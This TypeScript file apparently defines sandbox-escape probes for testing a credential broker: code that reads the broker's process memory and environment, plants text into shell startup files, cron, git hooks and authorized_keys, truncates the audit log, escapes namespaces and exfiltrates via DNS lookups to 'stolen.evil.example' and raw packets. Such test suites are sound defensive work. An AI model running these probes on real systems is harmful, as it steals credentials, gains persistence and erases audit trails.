import { spawn, spawnSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { lookup, Resolver } from 'node:dns/promises';
import * as fs from 'node:fs';
import { connect } from 'node:net';
import { variable } from './calling.ts';
import { shell } from './calls.ts';

/** What a task may not do to the machine it runs on. `BROKER` is the process that holds its credentials. */
export const system = {
  // The broker itself.
  memory: () => opened(`/proc/${broker}/mem`),
  environment: () => `${fs.readFileSync(`/proc/${broker}/environ`).length} bytes`,
  descriptors: () => fs.readdirSync(`/proc/${broker}/fd`).join(' '),
  trace: () => python(`print(libc.ptrace(0x4206, ${broker}, None, None) and os.strerror(ctypes.get_errno()))`),
  remoteRead: () =>
    python(`
class Part(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
here = ctypes.create_string_buffer(16)
maps = "/proc/${broker}/maps"
there = int(open(maps).readline().split("-")[0], 16) if os.path.exists(maps) else 4096
count = libc.process_vm_readv(${broker}, ctypes.byref(Part(ctypes.addressof(here), 16)), 1, ctypes.byref(Part(there, 16)), 1, 0)
print("read" if count > 0 else os.strerror(ctypes.get_errno()))`),
  signal: () => process.kill(broker, 0) && 'there',
  stop: () => process.kill(broker, 'SIGCONT') && 'there',
  debugger: () => process.kill(broker, 'SIGUSR1') && 'there',

  // Other processes, and what they share.
  processes: () => (others().length > 0 ? 'sees' : 'sees none'),
  theirEnvironment: () =>
    others().some((pid) => quietly(`/proc/${pid}/environ`).includes('VALET_KEY_')) ? 'reads' : 'reads none',
  descriptorsInherited: () =>
    fs.readdirSync('/proc/self/fd').some((file) => target(`/proc/self/fd/${file}`).endsWith('.env')) ? 'open' : 'EPERM',
  sharedMemory: () => fs.readFileSync(`/dev/shm/${variable('MARK')}`, 'utf8'),
  // Syscalls 248 to 250 of x86-64: the kernel's own keyring.
  keyring: () => python(`print(libc.syscall(250, 10, -4, b"user", b"${variable('MARK')}", 0) > 0 and "found")`),

  // Sockets of the person's session: an agent's, D-Bus, the editor's.
  socketOfFile: () => reached(variable('SOCKET')),
  keychain: () => {
    const words = [
      '--session',
      '--print-reply',
      '--dest=org.freedesktop.secrets',
      '/',
      'org.freedesktop.DBus.Peer.Ping',
    ];
    const { stdout, stderr, error } = spawnSync('dbus-send', words, { encoding: 'utf8' });
    return error ? 'no dbus-send' : stdout || stderr || 'connected';
  },
  socketWithoutFile: () => reached(`\0${variable('MARK')}`),

  // Ways out that are no calls.
  names: () => lookup('evil.example').then(({ address }) => address),
  nameServer: () =>
    resolverAt(`127.0.0.1:${variable('PACKETS')}`)
      .resolve4('stolen.evil.example')
      .then(String),
  farNameServer: () => resolverAt('192.0.2.53').resolve4('stolen.evil.example').then(String),
  packet: () => sent('udp4', '127.0.0.1'),
  packetSix: () => sent('udp6', '::1'),
  rawPacket: () =>
    python(`
import socket
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
print(out.sendto(bytes([8, 0, 247, 255, 0, 0, 0, 0]), ("192.0.2.1", 0)))`),

  // What is run later, by somebody else.
  ...Object.fromEntries(
    [
      '.git/hooks/pre-commit',
      '.git/config',
      '.vscode/tasks.json',
      'package.json',
      'valet-key.json',
      '.env',
      '~/.bashrc',
      '~/.profile',
      '~/.config/autostart/a.desktop',
      '~/.config/systemd/user/a.service',
      '~/.ssh/authorized_keys',
      '~/valet-key/approvals.json',
      '~/valet-key/audit/audit.jsonl',
      '/etc/cron.d/a',
      '/var/spool/cron/crontabs/root',
      '/var/spool/cron/atjobs/a',
      '/etc/valet-key/policy.json',
      '/etc/hosts',
      '/etc/ld.so.preload',
      variable('PROGRAM'),
    ].map((path) => [`write ${path === variable('PROGRAM') ? 'valet-key' : path}`, () => written(path)] as const),
  ),
  linkOut: () => (fs.symlinkSync(`${variable('VICTIM')}/.bashrc`, 'out/link'), written('out/link')),
  linkToFolder: () => (fs.symlinkSync(variable('VICTIM'), 'out/home'), written('out/home/.profile')),
  cutLog: () => fs.truncateSync(`${variable('VICTIM')}/valet-key/audit/audit.jsonl`, 0),

  // Out of what holds it.
  remount: () => shell('unshare -Urm sh -c "mount -o remount,rw,bind src && touch src/remounted" 2>/dev/null'),
  unmount: () => shell('unshare -Urm sh -c "umount .env; umount -l .; cat .env" 2>/dev/null'),
  rootOfFirst: () => fs.readFileSync(`/proc/1/root${variable('VICTIM')}/passphrase`, 'utf8'),
  otherNamespace: () => shell(`nsenter -t ${broker} -m -n true 2>/dev/null`),
  terminalInput: () => python('import fcntl, termios; fcntl.ioctl(0, termios.TIOCSTI, b"x"); print("typed")'),
  survivor: () => {
    const program = `setInterval(() => require('node:fs').writeFileSync('out/alive', String(process.pid)), 50)`;
    spawn('setsid', [process.execPath, '-e', program, variable('MARK')], { detached: true, stdio: 'ignore' }).unref();
  },
} satisfies Readonly<Record<string, () => unknown>>;

const broker = Number(variable('BROKER'));

function opened(path: string): string {
  fs.closeSync(fs.openSync(path, 'r'));
  return 'opened';
}

function written(path: string): string {
  fs.appendFileSync(path.replace(/^~/, variable('VICTIM')), 'planted');
  return 'written';
}

function others(): readonly string[] {
  return fs
    .readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name) && quietly(`/proc/${name}/cmdline`).includes(variable('PROGRAM')));
}

function quietly(path: string): string {
  try {
    return fs.readFileSync(path, 'utf8');
  } catch {
    return '';
  }
}

function target(link: string): string {
  try {
    return fs.readlinkSync(link);
  } catch {
    return '';
  }
}

/** What Node has no name for. */
function python(program: string): string {
  const head = 'import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n';
  const { stdout, stderr, error } = spawnSync('/usr/bin/python3', ['-c', `${head}${program}`], { encoding: 'utf8' });
  if (error) return 'no python';
  return stdout.trim() || (stderr.trim().split('\n').at(-1) ?? '');
}

function reached(path: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect(path, () => {
      socket.destroy();
      resolve('connected');
    });
    socket.once('error', reject);
  });
}

function resolverAt(server: string): Resolver {
  const resolver = new Resolver({ timeout: 500, tries: 1 });
  resolver.setServers([server]);
  return resolver;
}

function sent(type: 'udp4' | 'udp6', host: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = createSocket(type);
    socket.once('error', reject);
    socket.send('stolen', Number(variable('PACKETS')), host, (error) => {
      socket.close();
      if (error) reject(error);
      else resolve('sent');
    });
  });
}

/** What may be tried where nothing holds the task. */
export const harmless: ReadonlySet<string> = new Set([
  'memory',
  'environment',
  'descriptors',
  'trace',
  'remoteRead',
  'signal',
  'debugger',
  'processes',
  'descriptorsInherited',
  'sharedMemory',
  'socketOfFile',
  'keychain',
  'socketWithoutFile',
  'packet',
  'survivor',
  'write .git/hooks/pre-commit',
  'write ~/.bashrc',
]);
